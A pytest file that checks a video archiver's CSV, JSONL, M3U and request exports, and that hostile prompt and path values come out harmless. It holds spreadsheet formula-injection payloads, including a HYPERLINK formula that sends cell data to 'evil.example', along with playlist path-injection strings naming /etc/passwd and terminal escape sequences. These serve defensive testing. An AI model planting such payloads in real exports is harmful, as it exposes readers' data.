"""`export --to csv|jsonl|m3u|requests`: read again by others, and nothing in them does what upstream wants."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from benchmarks.held import make_archive, put_random
from pictory_archiver import playlist
from pictory_archiver.archive import CATALOGUE
from pictory_archiver.entry import Entry, Standing
from pictory_archiver.simulator import REMOVED, Fault, Match, Simulator, World
from pictory_archiver.simulator import Status as Answer
from pictory_archiver.spreadsheet import COLUMNS, neutral
from pictory_archiver.tree import EXPORTS

from .conftest import Account, Mount
from .damage import file_of
from .support import Program, required, sidecars, snapshot
from .test_chains import FRAME, alone, continued
from .test_hostile_archive import WORDS
from .test_interruption import posix_only, stop, wait_until
from .test_looking import BAD_ROW, listed
from .test_telling import fill
from .test_upkeep import change, lonely

Held = tuple[Simulator, Program]

FORMATS = ("csv", "jsonl", "m3u", "requests")
FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"prompt")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "   =1",
    "\u00a0\u3000=1",
    "\u200b\ufeff=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "﹦1",
    "a;=1",
    "a\n  =1",
    "a\t@x",
)
IN_THE_MAKING, NO_PROMPT, LOST, STORY = 0, 3, 5, (6, 7, 8)


@pytest.fixture
def held(account: Account, archive: Path) -> Held:
    """An archive with a film, hostile prompts, and what is not held; seen without a key and a network."""
    simulator, program = account(World(count=30), [Fault(Match(kind="video", video=LOST), Answer(404), times=None)])
    world = simulator.world
    alone(world)
    continued(world, FRAME, 6, 7)
    continued(world, FRAME, 7, 8)
    world.change(IN_THE_MAKING, url=REMOVED)
    world.change(NO_PROMPT, prompt=None)
    for index, formula in enumerate(FORMULAS, start=10):
        world.change(index, prompt=formula)
    assert program.run("sync", archive).status == 3
    return simulator, lonely(program)


def exported(program: Program, archive: Path, form: str, *options: str | Path) -> bytes:
    """What is written to a file: what is printed is the same."""
    output = program.home / f"export.{form}"
    done = program.run("export", archive, "--to", form, "--output", output, *options)
    assert (done.status, done.stdout) == (0, "")
    return output.read_bytes()


def table(data: bytes) -> list[dict[str, str]]:
    """A CSV file, as a program reads it."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# csv


def test_a_table_of_all_videos(held: Held, archive: Path) -> None:
    simulator, program = held
    world = simulator.world
    data = exported(program, archive, "csv")
    rows = table(data)
    assert list(rows[0]) == [*COLUMNS]
    videos = listed(program, archive)
    assert [row["id"] for row in rows] == [video["id"] for video in videos]
    for row, video in zip(rows, videos, strict=True):
        item = world.item(video["id"])
        assert (row["created_at"], row["model"], row["aspect_ratio"]) == (
            item["createdDate"],
            item["model"],
            item["aspectRatio"],
        )
        assert (row["width"], row["height"]) == (str(item["width"]), str(item["height"]))
        assert row["duration_seconds"] == item["duration"].removesuffix("s")
        assert (row["status"], row["bytes"]) == (video["status"], str(video["bytes"]))
        assert row["path"] == (video["path"] or "")
        assert row["made"] == item["createdDate"][:19].replace("T", " ")
        if row["path"]:
            assert (archive / row["path"]).is_file()
            assert row["sha256"] == next(file["sha256"] for file in video["files"] if file["kind"] == "video")
        assert (archive / row["last_frame"]).is_file()
    by_index = {world.index(row["id"]): row for row in rows}
    assert by_index[LOST]["not_held"] == "video"
    assert by_index[NO_PROMPT]["prompt"] == ""
    assert [by_index[index]["film_part"] for index in STORY] == ["3", "2", "1"]
    assert {by_index[index]["film_parts"] for index in STORY} == {"3"}
    assert by_index[6]["continues"] == world.id(7)
    assert by_index[1]["prompt"] == world.item(1)["prompt"]
    lines = data.split(b"\r\n")
    assert lines[-1] == b""
    assert lines[0] == b"\xef\xbb\xbf" + ",".join(COLUMNS).encode()


def test_52_no_text_becomes_a_formula(held: Held, archive: Path) -> None:
    simulator, program = held
    rows = {simulator.world.index(row["id"]): row["prompt"] for row in table(exported(program, archive, "csv"))}
    for index, formula in enumerate(FORMULAS, start=10):
        cell = rows[index]
        assert "'" in cell
        assert not formulas_in(cell), cell
        assert cell.replace("'", "").replace("\\x0d", "\r").replace("\\ufeff", "\ufeff") == formula.replace("'", "")
    assert rows[10] == "'" + FORMULAS[0]


def formulas_in(cell: str) -> list[str]:
    """The cells that any spreadsheet would make of a text, whatever its separators, that it would take for formulas."""
    parts = [cell]
    for separator in ";\t\r\n":
        parts += [part for each in list(parts) for part in each.split(separator)]
    shown = ["".join(c for c in part if unicodedata.category(c)[0] not in "ZC") for part in parts]
    return [part for part in shown if unicodedata.normalize("NFKC", part[:1])[:1] in tuple("=+-@")]


ANY = st.text(st.sampled_from("=+-@;\t\r\n '\"a＝﹣\u200b\u2028\x00") | st.characters(codec="utf-8"), max_size=12)


@example("=")
@example("a;\n -")
@given(ANY)
def test_whatever_a_text_holds_no_cell_of_it_is_a_formula(text: str) -> None:
    cell = neutral(text)
    assert not formulas_in(cell)
    assert cell[:1] not in ("\t", "\r", "\n")
    assert cell.replace("'", "") == text.replace("'", ""), "nothing but apostrophes is added"
    if not formulas_in(text) and text[:1] not in ("\t", "\r", "\n"):
        assert cell == text


def test_what_is_printed_as_a_table_does_not_steer_a_terminal(account: Account, archive: Path) -> None:
    simulator, program = account(World(count=1))
    simulator.world.change(0, prompt="a\x1b[2J\u202eb\r\nc\td\x00", model="\x9b31m")
    assert program.run("sync", archive).status == 0
    printed = program.run("export", archive, "--to", "csv").stdout
    assert not {"\x1b", "\u202e", "\x9b", "\x00"} & set(printed)
    (row,) = table(exported(program, archive, "csv"))
    assert (row["prompt"], row["model"]) == ("a\\x1b[2J\\u202eb\\x0d\nc\td\\x00", "\\x9b31m")


# jsonl, requests


def test_lines_of_json_are_those_of_list(held: Held, archive: Path) -> None:
    _, program = held
    assert exported(program, archive, "jsonl").decode() == program.run("list", archive, "--json").stdout
    assert program.run("export", archive, "--to", "jsonl").stdout == program.run("list", archive, "--json").stdout


def test_requests_would_generate_the_videos_again(held: Held, archive: Path) -> None:
    simulator, program = held
    done = program.run("export", archive, "--to", "requests")
    assert (done.status, done.stderr) == (0, "1 video left out: no prompt\n")
    bodies = [json.loads(line) for line in done.stdout.splitlines()]
    items = [simulator.world.item(index) for index in range(30) if index != NO_PROMPT]
    wanted = ("prompt", "model", "aspectRatio", "duration", "firstFrameImageUrl", "referenceImageUrls")
    assert bodies == [{name: item[name] for name in wanted if name in item} for item in items]


# m3u


def entries_of(data: bytes, folder: Path) -> list[tuple[int, str, Path]]:
    """A playlist as a player reads it: seconds, title, file."""
    head, encoding, *lines = data.decode().splitlines()
    assert (head, encoding) == ("#EXTM3U", "#EXTENC:UTF-8")
    found = []
    for info, path in zip(lines[::2], lines[1::2], strict=True):
        seconds, _, title = info.removeprefix("#EXTINF:").partition(",")
        assert not path.startswith("#")
        found.append((int(seconds), title, folder / path))
    return found


def ids_of(archive: Path, files: list[Path]) -> list[str]:
    by_path = {
        path.with_name(asset.path).resolve(): video_id
        for video_id, (path, sidecar) in sidecars(archive).items()
        for asset in sidecar.assets
        if asset.kind == "video" and asset.path
    }
    return [by_path[file.resolve()] for file in files]


def test_a_playlist_of_all_that_is_held(held: Held, archive: Path) -> None:
    simulator, program = held
    world = simulator.world
    done = program.run("export", archive, "--to", "m3u")
    assert (done.status, done.stderr) == (0, "2 videos left out: not held\n")
    found = entries_of(done.stdout.encode(), archive)
    order = [world.id(index) for index in range(30) if index not in (IN_THE_MAKING, LOST)]
    assert ids_of(archive, [file for *_, file in found]) == order
    for video_id, (seconds, title, file) in zip(order, found, strict=True):
        item = world.item(video_id)
        assert file.is_file()
        assert seconds == int(item["duration"].removesuffix("s"))
        assert title
        assert not WORDS.search(title)
        if len(item["prompt"] or "") < 100 and (item["prompt"] or "").isprintable():
            assert title == " ".join((item["prompt"] or video_id).split())
    assert found[2][1] == world.id(NO_PROMPT)


def test_paths_lead_from_wherever_the_playlist_lies(held: Held, archive: Path, tmp_path: Path) -> None:
    _, program = held
    (tmp_path / "deep" / "er").mkdir(parents=True)
    (tmp_path / "link").symlink_to(tmp_path / "deep" / "er")
    outputs = (
        archive / "videos.m3u8",
        tmp_path / "beside.m3u8",
        tmp_path / "deep" / "er" / "film.m3u",
        tmp_path / "link" / "film.m3u8",
    )
    for output in outputs:
        done = program.run("export", archive, "--to", "m3u", "--output", output)
        assert (done.status, done.stdout) == (0, "")
        assert done.stderr.splitlines() == [
            f"{output}: 28 videos",
            "2 videos left out: not held",
        ]
        files = [file for *_, file in entries_of(output.read_bytes(), output.parent)]
        assert len(files) == 28
        assert all(file.is_file() for file in files)
    inside = (archive / "videos.m3u8").read_text()
    assert ".." not in inside
    done = program.run("export", "--to", "m3u", "--output", "here.m3u8", cwd=archive)
    assert (archive / "here.m3u8").read_text() == inside
    shutil.move(archive, tmp_path / "moved")
    assert all(file.is_file() for *_, file in entries_of(inside.encode(), tmp_path / "moved"))


def test_films_play_from_their_first_part(held: Held, archive: Path) -> None:
    simulator, program = held
    world = simulator.world
    story = [world.id(index) for index in reversed(STORY)]
    for options in (("--chain", story[1]), ("--chain", story[0]), ("--chains",)):
        found = entries_of(exported(program, archive, "m3u", *options), program.home)
        assert ids_of(archive, [file for *_, file in found]) == story
    alone_in_it = entries_of(exported(program, archive, "m3u", "--chain", world.id(2)), program.home)
    assert ids_of(archive, [file for *_, file in alone_in_it]) == [world.id(2)]


def test_ffmpeg_plays_what_a_playlist_names(held: Held, archive: Path, tmp_path: Path) -> None:
    """ffmpeg's list of files to play one after the other takes the same paths."""
    required(shutil.which("ffmpeg"), "ffmpeg")
    simulator, program = held
    playlist_file = tmp_path / "film.m3u8"
    options = ("--chain", simulator.world.id(7), "--output", playlist_file)
    assert program.run("export", archive, "--to", "m3u", *options).status == 0
    entries = entries_of(playlist_file.read_bytes(), Path())
    names = "".join(f"file '{path}'\n" for *_, path in entries)
    (tmp_path / "list.txt").write_text(names)
    words = ["ffmpeg", "-v", "error", "-f", "concat", "-safe", "0", "-i", "list.txt", "-f", "null", "-"]
    done = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=False)
    assert (done.returncode, len(entries)) == (0, 3), done.stderr


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("2026/04/09/x.mp4", "2026/04/09/x.mp4"),
        ("#films/x.mp4", "./#films/x.mp4"),
        ("#x.mp4", "./#x.mp4"),
        (" films/x.mp4", "./ films/x.mp4"),
        ("-v/x.mp4", "./-v/x.mp4"),
        ("http://evil.example/x.mp4", "./http://evil.example/x.mp4"),
        ("été/100%25/x.mp4", "./été/100%25/x.mp4"),
        ("../../archive/x.mp4", "../../archive/x.mp4"),
        ("/archive/#1/x.mp4", "/archive/#1/x.mp4"),
        ("2026\n#EXTINF:1,x\n/etc/passwd/x.mp4", None),
        ("20\r26/x.mp4", None),
        ("20\u202826/x.mp4", None),
    ],
)
def test_a_path_stays_a_path(path: str, line: str | None) -> None:
    lines = playlist.lines(entry(path, "a\nfox,\x1b[2J #1 "), "")
    assert lines == (None if line is None else f"#EXTINF:8,a fox,\\x1b[2J #1\n{line}\n".encode())


def entry(path: str, prompt: str) -> Entry:
    return Entry(
        id="1",
        account="default",
        created_at=None,
        prompt=prompt,
        model="",
        aspect_ratio="",
        width=None,
        height=None,
        duration_seconds=8.2,
        status=Standing.COMPLETE,
        gone_upstream=None,
        archived_at=None,
        path=path,
        sidecar=None,
        bytes=0,
        files=(),
        accepted=(),
        continues=None,
        continued_by=(),
        chain=(),
        request=None,
    )


@pytest.mark.skipif(sys.platform == "win32", reason="its names have no line breaks")
def test_a_folder_whose_name_no_line_can_hold(held: Held, archive: Path, tmp_path: Path) -> None:
    """The archive's own, and one within it."""
    simulator, program = held
    moved = file_of(archive, simulator.world, 2, "json").parent
    shutil.move(moved, archive / "a\nb")
    assert program.run("reindex", archive).status == 0
    done = program.run("export", archive, "--to", "m3u", "--search", simulator.world.id(2))
    assert done.stderr == "1 video left out: no line of a playlist can hold the path\n"
    odd = tmp_path / "#EXTM3U\nof mine"
    shutil.move(archive, odd)
    (tmp_path / "deep").mkdir()
    output = tmp_path / "deep" / "x.m3u8"
    done = program.run("export", odd, "--to", "m3u", "--output", output)
    assert output.read_bytes() == b"#EXTM3U\n#EXTENC:UTF-8\n"
    inside = program.run("export", odd, "--to", "m3u", "--output", odd / "videos.m3u8")
    assert "27 videos" in inside.stderr


# All of them


@pytest.mark.parametrize("form", FORMATS)
def test_filters_choose_and_the_order_is_theirs(held: Held, archive: Path, form: str) -> None:
    simulator, program = held
    world = simulator.world
    words = {"csv": 1, "m3u": 2}  # lines that are not of a video
    for options, indexes in (
        (("--limit", "2", "--search", "202"), [0, 1]),
        (("--reverse", "--limit", "2"), [29, 28]),
        (("--chains",), list(reversed(STORY))),
        (("--since", "9999-01-01"), []),
    ):
        text = exported(program, archive, form, *options).decode()
        if form == "requests":
            kept = [json.loads(line)["prompt"] for line in text.splitlines()]
            assert kept == [world.item(index)["prompt"] for index in indexes]
            continue
        found = [text.find(world.id(index)) for index in indexes if form != "m3u" or index != IN_THE_MAKING]
        assert found == sorted(found)
        assert -1 not in found
        assert sum(world.id(index) in text for index in range(30)) >= len(found)
        if not indexes:
            assert len(text.splitlines()) == words.get(form, 0)


@pytest.mark.parametrize("form", FORMATS)
def test_they_may_lie_in_the_archive(held: Held, archive: Path, form: str) -> None:
    simulator, program = held
    before = snapshot(archive)
    own = archive / EXPORTS[form]
    for _ in range(2):
        assert program.run("export", archive, "--to", form, "--output", own).status == 0
    checked = program.run("verify", archive, "--json")
    assert (checked.status, checked.report["notes"]) == (0, [])
    assert {name: seen for name, seen in snapshot(archive).items() if name != str(EXPORTS[form])} == before
    for name in (*(str(each) for each in EXPORTS.values() if each != EXPORTS[form]), "README.txt", "mine.txt"):
        path = archive / name
        there = path.exists()
        if not there:
            path.write_bytes(b"mine")
        kept = path.read_bytes()
        refused = program.run("export", archive, "--to", form, "--output", path)
        assert (refused.status, str(EXPORTS[form]) in refused.stderr, path.read_bytes()) == (2, True, kept)
        if not there:
            path.unlink()
    folder = file_of(archive, simulator.world, 1, "mp4").parent
    assert program.run("export", archive, "--to", form, "--output", folder / "new").status == 2


def test_the_manifest_is_about_everything(held: Held, archive: Path, tmp_path: Path) -> None:
    _, program = held
    for option in (
        ("--limit", "1"),
        ("--chains",),
        ("--model", "x"),
        ("--reverse",),
        ("--search", "x"),
        ("--since", "2026-01-01"),
    ):
        output = tmp_path / "sums"
        refused = program.run("export", archive, "--to", "sha256sums", *option, "--output", output)
        assert (refused.status, refused.stdout, option[0] in refused.stderr) == (2, "", True)
        assert not output.exists()
    for words in ((), ("--to", "xml"), ("--to", "csv", "--json")):
        assert program.run("export", archive, *words).status == 2


@pytest.mark.parametrize("form", FORMATS)
def test_an_empty_archive(account: Account, archive: Path, form: str) -> None:
    _, program = account(World(count=0))
    assert program.run("sync", archive).status == 0
    heads = {"csv": b"\xef\xbb\xbf" + ",".join(COLUMNS).encode() + b"\r\n", "m3u": playlist.HEADER}
    assert exported(program, archive, form) == heads.get(form, b"")


@pytest.mark.parametrize("form", FORMATS)
def test_without_a_catalogue_and_with_a_damaged_one(held: Held, archive: Path, form: str) -> None:
    simulator, program = held
    sound = exported(program, archive, form)
    change(archive / CATALOGUE, BAD_ROW.format(simulator.world.id(9)))
    assert exported(program, archive, form) == sound
    (archive / CATALOGUE).write_bytes(os.urandom(9000))
    assert exported(program, archive, form) == sound
    (archive / CATALOGUE).unlink()
    assert exported(program, archive, form) == sound


def test_damage_that_is_met_in_the_middle(tmp_path: Path, account: Account) -> None:
    """A file begins anew and is whole; what was printed cannot, and the command says so."""
    archive = tmp_path / "large"
    asyncio.run(make_archive(archive, 500, 0, "https://cdn.example", put_random(100)))
    _, program = account(World(count=0))
    program = lonely(program)
    sound = exported(program, archive, "csv")
    last = table(sound)[-1]["id"]
    change(archive / CATALOGUE, BAD_ROW.format(last))
    assert exported(program, archive, "csv") == sound
    printed = program.run("export", archive, "--to", "csv")
    assert (printed.status, len(printed.stderr.splitlines())) == (6, 1)
    assert sound.decode().replace("\r\n", "\n").startswith(printed.stdout)


def test_what_was_there_is_kept_where_the_new_one_cannot_be_written(
    account: Account, archive: Path, mount: Mount
) -> None:
    _, program = account(World(count=20))
    assert program.run("sync", archive).status == 0
    folder = mount("size=1m")
    output = folder / "videos.jsonl"
    output.write_bytes(b"former")
    fill(folder)
    outcome = program.run("export", archive, "--to", "jsonl", "--output", output)
    assert (outcome.status, len(outcome.stderr.splitlines())) == (6, 1)
    assert sorted(path.name for path in folder.iterdir()) == ["full", "videos.jsonl"]
    assert output.read_bytes() == b"former"


@posix_only
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_a_signal_leaves_what_was_there(held: Held, archive: Path, tmp_path: Path, number: int) -> None:
    strace = shutil.which("strace")
    required(strace, "strace, to make reading slow")
    _, program = held
    output = tmp_path / "videos.csv"
    output.write_bytes(b"former")
    slow = "inject=pread64:delay_enter=300000"
    program.prefix = (str(strace), "-D", "-f", "-qq", "-o", "/dev/null", "-e", slow)
    process = program.start("export", archive, "--to", "csv", "--output", output)
    wait_until((tmp_path / "videos.csv.partial").exists, process)
    outcome, seconds = stop(program, process, number)
    assert (outcome.status, seconds < 10) == (128 + number, True)
    assert output.read_bytes() == b"former"
    assert not (tmp_path / "videos.csv.partial").exists()


def test_memory_does_not_grow_with_what_is_written(tmp_path: Path, account: Account) -> None:
    """6,000 more videos take but the room of their ids."""
    _, program = account(World(count=0))
    program = lonely(program)
    peaks = []
    for videos in (2000, 8000):
        archive = tmp_path / str(videos)
        asyncio.run(make_archive(archive, videos, 0, "https://cdn.example", put_random(0)))
        peaks.append(peak_of(program, archive))
    assert peaks[1] - peaks[0] < 8 * 1024, peaks


PEAK = """
import re, sys
from pictory_archiver.__main__ import _status
sys.argv = ["pictory-archiver", *sys.argv[1:]]
_status()
status = open("/proc/self/status").read()
print(re.search(r"VmHWM:\\s+(\\d+) kB", status)[1], file=sys.stderr)
"""


def peak_of(program: Program, archive: Path) -> int:
    """The memory that an export to stdout takes at most, in KiB."""
    required(sys.platform == "linux", "Linux, to know what a process took at most")
    words: list[Any] = [sys.executable, "-c", PEAK, "export", archive, "--to", "jsonl"]
    done = subprocess.run(words, env=program.environment(), capture_output=True, text=True, check=True)
    assert done.stdout.count("\n") == int(archive.name)
    return int(done.stderr.splitlines()[-1])
